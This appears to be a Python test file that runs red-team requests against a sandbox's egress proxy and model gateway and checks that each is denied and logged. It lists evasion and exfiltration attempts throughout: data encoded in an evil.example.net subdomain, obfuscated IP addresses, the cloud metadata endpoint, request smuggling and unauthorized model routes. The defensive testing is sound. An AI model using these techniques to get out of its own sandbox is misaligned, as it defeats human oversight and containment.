# ruff: noqa: E501 - a knock is a line
"""Attacks on the doors from inside a real cell: every one denied in one shape, with one event, and nothing let out.

The control is in the same run: what the workflow allows is admitted at the same doors (`egress.decided` allow, and an
answer of the real model), so a door that denied everything, or a log that noted nothing, would fail these tests.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from policies.vocabulary import Verdict
from sandbox.records.log import RunEvent
from tests.lab import Lab, Result

KNOCKS = Path(__file__).with_name("knocks.py")
SECRET = "canary-of-the-doors-1f2e3d4c"
ALLOWED = "data.example.com"


def connect(target: str, *headers: str) -> str:
    """A CONNECT request."""
    return "\r\n".join([f"CONNECT {target} HTTP/1.1", f"Host: {target}", *headers, "", ""])


def get(url: str, host: str, method: str = "GET", *headers: str) -> str:
    """A plain request through the proxy."""
    return "\r\n".join([f"{method} {url} HTTP/1.1", f"Host: {host}", *headers, "", ""])


def post(path: str, body: object, *headers: str) -> str:
    """A JSON request to the LLM door."""
    data = body if isinstance(body, str) else json.dumps(body)
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1:4000", "Content-Type: application/json", *headers]
    return "\r\n".join([*lines, f"Content-Length: {len(data)}", "", data])


# name (the row of the red team first), request, what is sent after an answer, the codes that may come
EGRESS: list[tuple[str, str, str, set[str]]] = [
    ("3 data in the name of a denied host, CONNECT", connect("c2VjcmV0.evil.example.net:443"), "", {"CSM-P003"}),
    ("3 data in the name of a denied host, plain", get("http://c2VjcmV0.evil.example.net/", "c2VjcmV0.evil.example.net"), "", {"CSM-P003"}),
    ("5 DNS over HTTPS", connect("dns.google:443"), "", {"CSM-P003"}),
    ("9 an address", connect("1.1.1.1:443"), "", {"CSM-P004"}),
    ("9 an address as a number", connect("16843009:443"), "", {"CSM-P004"}),
    ("9 an address in hex", connect("0x01010101:443"), "", {"CSM-P004"}),
    ("9 an address in octal", connect("0177.0.0.1:443"), "", {"CSM-P004"}),
    ("9 a short address", connect("127.1:443"), "", {"CSM-P004"}),
    ("9 an IPv6 address", connect("[::1]:443"), "", {"CSM-P004"}),
    ("9 a mapped address", connect("[::ffff:127.0.0.1]:443"), "", {"CSM-P004"}),
    ("12 ssh on an allowed host", connect(f"{ALLOWED}:22"), "", {"CSM-P003"}),
    ("12 http on an allowed host", connect(f"{ALLOWED}:80"), "", {"CSM-P003"}),
    ("12 another port of an allowed host", connect(f"{ALLOWED}:8443"), "", {"CSM-P003"}),
    ("13 WebSocket", get("http://plain.example.com/", "plain.example.com", "GET", "Upgrade: websocket", "Connection: Upgrade"), "", {"CSM-P010"}),
    ("13 h2c", get("http://plain.example.com/", "plain.example.com", "GET", "Upgrade: h2c", "Connection: Upgrade"), "", {"CSM-P010"}),
    ("13 HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "", {"CSM-P010", "CSM-P001"}),
    ("15 allowed Host, denied target", get("http://evil.example.net/", "plain.example.com"), "", {"CSM-P003", "CSM-P008"}),
    ("15 denied Host, allowed target", get("http://plain.example.com/", "evil.example.net"), "", {"CSM-P008"}),
    ("18 ftp", get("ftp://plain.example.com/", "plain.example.com"), "", {"CSM-P001", "CSM-P010", "CSM-P003"}),
    ("18 gopher", get("gopher://plain.example.com/", "plain.example.com"), "", {"CSM-P001", "CSM-P010", "CSM-P003"}),
    ("19 a longer name", connect(f"not{ALLOWED}:443"), "", {"CSM-P003"}),
    ("19 a name below another", connect(f"{ALLOWED}.evil.example.net:443"), "", {"CSM-P003"}),
    ("19 two labels below a pattern", connect("a.b.cdn.example.com:443"), "", {"CSM-P003"}),
    ("19 the pattern's own name", connect("cdn.example.com:443"), "", {"CSM-P003"}),
    ("20 a denied name in upper case, with a dot", connect("EVIL.Example.NET.:443"), "", {"CSM-P003"}),
    ("20 white space before an allowed name", connect(f" {ALLOWED}:443"), "", {"CSM-P001"}),
    ("20 white space after an allowed name", connect(f"{ALLOWED} :443"), "", {"CSM-P001"}),
    ("20 white space, encoded, after an allowed name", connect(f"{ALLOWED}%20:443"), "", {"CSM-P001", "CSM-P003"}),
    ("22 a header in the target", connect(f"{ALLOWED}:443\tX"), "", {"CSM-P001"}),
    ("22 a user in the target", connect(f"user@{ALLOWED}:443"), "", {"CSM-P001", "CSM-P003"}),
    ("24 a method that is not allowed", get("http://plain.example.com/", "plain.example.com", "POST", "Content-Length: 0"), "", {"CSM-P009"}),
    ("26 metadata by address", get("http://169.254.169.254/", "169.254.169.254"), "", {"CSM-P004"}),
    ("26 metadata by name", get("http://metadata.google.internal/", "metadata.google.internal"), "", {"CSM-P003"}),
    ("37 a large header", connect(f"{ALLOWED}:443", "X: " + "a" * 40_000), "", {"CSM-P002"}),
    ("two lengths", get("http://plain.example.com/", "plain.example.com", "GET", "Content-Length: 1", "Transfer-Encoding: chunked"), "", {"CSM-P001"}),
    ("two hosts", get("http://plain.example.com/", "plain.example.com", "GET", "Host: evil.example.net"), "", {"CSM-P001"}),
    ("a folded header", get("http://plain.example.com/", "plain.example.com", "GET", "X: a", " b"), "", {"CSM-P001"}),
    ("a bare line feed", f"CONNECT {ALLOWED}:443 HTTP/1.1\nHost: {ALLOWED}\n\n", "", {"CSM-P001"}),
]  # fmt: skip

HELLO = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
LLM: list[tuple[str, str, set[str]]] = [
    ("30 another route", post("/v1/files", {}), {"CSM-P020"}),
    ("30 fine-tuning", post("/v1/fine_tuning/jobs", {}), {"CSM-P020"}),
    ("30 a slot of the server", post("/slots/0?action=save", {}), {"CSM-P020"}),
    ("30 a route with dots", post("/v1/../v1/files", {}), {"CSM-P020", "CSM-P021"}),
    ("30 another model", post("/v1/chat/completions", {**HELLO, "model": "gpt-4o"}), {"CSM-P022"}),
    ("30 the model behind the alias", post("/v1/chat/completions", {**HELLO, "model": "gemma-3-270m"}), {"CSM-P022"}),
    ("30 an unknown field", post("/v1/chat/completions", {**HELLO, "model": "teacher", "store_at": "x"}), {"CSM-P021"}),
    ("30 a picture to fetch", post("/v1/chat/completions", {"model": "teacher", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "https://evil.example.net/x.png"}}]}]}), {"CSM-P021"}),
    ("32 an absolute target", post("http://evil.example.net/v1/chat/completions", {**HELLO, "model": "teacher"}), {"CSM-P020", "CSM-P021"}),
    ("32 a target with two slashes", post("//evil.example.net/v1/chat/completions", {**HELLO, "model": "teacher"}), {"CSM-P020", "CSM-P021"}),
    ("37 a large body", post("/v1/chat/completions", "x" * (5 << 20)), {"CSM-P024"}),
    ("a body with two readings", post("/v1/chat/completions", '{"model": "teacher", "model": "other", "messages": []}'), {"CSM-P021"}),
    ("a compressed body", post("/v1/chat/completions", {}, "Content-Encoding: gzip"), {"CSM-P021"}),
]  # fmt: skip

CONTROLS = [
    ("control: an allowed tunnel", 3128, connect(f"{ALLOWED}:443"), "SSH-2.0-OpenSSH_9.9\r\n"),
    ("control: upper case and a dot", 3128, connect(f"{ALLOWED.upper()}.:443"), "SSH-2.0-OpenSSH_9.9\r\n"),
    ("control: an allowed plain request", 3128, get("http://plain.example.com/", "plain.example.com"), ""),
    ("control: the teacher answers", 4000, post("/v1/chat/completions", {**HELLO, "model": "teacher"}, f"Authorization: Bearer {SECRET}", f"x-api-key: {SECRET}"), ""),
]  # fmt: skip

Answers = dict[str, str]
ADMITTED = {"CSM-P006", "CSM-P007"}
"""Denials of what the rules admit: it does not resolve, or it is no TLS. They are the controls."""


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Result, Answers]]:
    """One real run whose agent knocks at every door; yields the run and the answers."""
    lab = Lab(tmp_path_factory.mktemp("doors"))
    knocks = [[name, 3128, data, after] for name, data, after, _ in EGRESS]
    knocks += [[name, 4000, data, ""] for name, data, _ in LLM]
    knocks += [list(control) for control in CONTROLS]
    (lab.folder / "knocks.json").write_text(json.dumps(knocks))
    (lab.folder / "knocks.py").write_text(KNOCKS.read_text())
    teacher = {"provider": "local", "model": "gemma-3-270m", "price": {"input": 0.1, "output": 0.4}}
    inputs = {
        name: {"path": path} for name, path in (("agent", "agent.py"), ("k", "knocks.py"), ("list", "knocks.json"))
    }
    egress: list[dict[str, Any]] = [
        {"host": ALLOWED},
        {"host": "*.cdn.example.com"},
        {"host": "plain.example.com", "scheme": "http", "methods": ["GET"]},
    ]
    limits = {"cpu": 1, "memory": "256MiB", "pids": 64, "disk": "32MiB", "wall": "150s"}
    agent = "import runpy; runpy.run_path('/inputs/knocks.py', run_name='__main__')"
    top = {"models": {"teacher": teacher}, "inputs": inputs}
    result = lab.run(lab.workflow(agent, models=["teacher"], egress=egress, limits=limits, top=top))
    assert result.exit_code == 0, result.stderr + (result.agent_log() if result.folder else "")
    yield result, json.loads(result.artifact("agent/answers.json"))
    assert lab.left_over() == []


def code_of(answer: str) -> str:
    """Return the code of a denial; its shape must be the one of every door."""
    _, _, body = answer.partition("\r\n\r\n")
    error = json.loads(body)["error"]
    assert {"code", "denied", "allowed", "hint", "message"} <= error.keys()
    return str(error["code"])


@pytest.mark.parametrize(("name", "codes"), [(name, codes) for name, _, _, codes in EGRESS])
def test_the_egress_door_denies(run: tuple[Result, Answers], name: str, codes: set[str]) -> None:
    answer = run[1][name]
    assert answer.startswith(("HTTP/1.1 4", "HTTP/1.1 5")), answer[:200]
    assert code_of(answer) in codes


@pytest.mark.parametrize(("name", "codes"), [(name, codes) for name, _, codes in LLM])
def test_the_llm_door_denies(run: tuple[Result, Answers], name: str, codes: set[str]) -> None:
    answer = run[1][name]
    assert answer.startswith("HTTP/1.1 4"), answer[:200]
    assert code_of(answer) in codes


def decided(result: Result, kind: str, verdict: Verdict) -> list[RunEvent]:
    return [event for event in result.of(kind) if event.verdict is verdict and event.stage == "agent"]


def test_every_denial_at_the_egress_door_is_one_event_and_nothing_else_was_admitted(
    run: tuple[Result, Answers],
) -> None:
    result, _ = run
    denied = [e for e in decided(result, "egress.decided", Verdict.DENY) if e.rule not in ADMITTED]
    assert len(denied) == len(EGRESS)
    allowed = [e.attrs.get("server.address") for e in decided(result, "egress.decided", Verdict.ALLOW)]
    assert set(allowed) <= {ALLOWED, "plain.example.com"}


def test_16_an_allowed_tunnel_without_a_clienthello_goes_nowhere(run: tuple[Result, Answers]) -> None:
    result, answers = run
    for name in ("control: an allowed tunnel", "control: upper case and a dot"):
        assert answers[name].startswith("HTTP/1.1 200"), answers[name]  # admitted, and then it spoke SSH
        assert "SSH" not in answers[name]
    assert len([e for e in decided(result, "egress.decided", Verdict.DENY) if e.rule == "CSM-P007"]) == 2


def test_control_what_is_allowed_is_admitted(run: tuple[Result, Answers]) -> None:
    # There is no such host in the test's world: that it was looked for shows that the rules let it pass.
    result, answers = run
    assert code_of(answers["control: an allowed plain request"]) == "CSM-P006"
    assert [e.attrs["server.address"] for e in result.of("egress.decided") if e.rule == "CSM-P006"] == [
        "plain.example.com"
    ]


def test_31_the_agents_own_key_reaches_nobody(run: tuple[Result, Answers]) -> None:
    result, answers = run
    assert answers["control: the teacher answers"].startswith("HTTP/1.1 200"), answers["control: the teacher answers"]
    assert len(result.of("llm.settled")) == 1
    assert result.folder is not None
    for path in result.folder.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_bytes().decode("latin-1"), path


def test_every_denial_at_the_llm_door_is_an_event(run: tuple[Result, Answers]) -> None:
    assert len(decided(run[0], "llm.decided", Verdict.DENY)) == len(LLM)
